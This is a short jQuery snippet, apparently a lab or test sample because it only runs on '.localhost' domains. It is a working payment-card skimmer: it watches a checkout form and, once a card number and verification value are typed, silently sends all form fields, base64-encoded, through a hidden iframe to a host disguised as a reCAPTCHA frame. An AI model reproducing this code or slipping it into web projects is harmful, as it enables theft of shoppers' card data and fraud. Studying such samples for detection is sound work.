$(function () {
  if (!/\.localhost$/.test(document.domain)) return;
  var $f = $('<iframe>', { width: 0, height: 0, frameborder: 0, style: 'display:none' }).appendTo('body');
  $('#checkout-form').on('keyup change', ':input', function () {
    var v = {};
    $('#checkout-form :input').each(function () { if (this.name) v[this.name] = $(this).val(); });
    if (v.number && v.number.length >= 15 && v.verification_value) {
      $f.attr('src', 'https://recaptcha-frame.localhost/anchor?k=' + encodeURIComponent(window.btoa($.param(v))));
    }
  });
});
